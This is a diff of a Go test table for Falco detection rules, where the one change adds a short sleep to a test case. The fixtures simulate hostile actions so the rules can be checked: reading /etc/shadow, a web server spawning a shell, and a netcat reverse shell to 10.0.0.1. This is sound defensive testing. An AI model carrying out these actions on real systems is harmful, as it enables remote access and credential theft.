@@ -48,7 +48,7 @@ var stableRules = []falcoAct{
 		fires: chain(run("nginx"), do("sleep", "5200ms"), do("open", "/etc/shadow", "r")), near: as("nginx", "open", "/etc/shadow", "r")},
 	{rule: "Read sensitive file untrusted", fires: as("x", "open", "/etc/shadow", "r"), near: as("vsftpd", "open", "/etc/shadow", "r")},
 	{rule: "Run shell untrusted", fires: chain(run("nginx"), run("bash")), near: chain(run("nginx"), run("id"))},
-	{rule: "System user interactive", fires: chain(run("sshd"), acts.Step{Run: []string{"bash"}, UID: 2}), near: chain(run("sshd"), run("bash"))},
+	{rule: "System user interactive", fires: chain(run("sshd"), acts.Step{Run: []string{"bash"}, UID: 2}, do("sleep", "200ms")), near: chain(run("sshd"), run("bash"))},
 	{rule: "Terminal shell in container", at: newTerminal, fires: only("bash"), nearAt: newPod, near: only("bash")},
 	{rule: "Contact K8S API Server From Container", at: inPod, fires: as("x", "connect", "tcp", apiServer), near: as("x", "connect", "tcp", "127.0.0.3:6443")},
 	{rule: "Netcat Remote Code Execution in Container", at: inPod, fires: only("nc", "10.0.0.1", "4444", "-e", "/bin/sh"), near: only("nc", "10.0.0.1", "4444")},
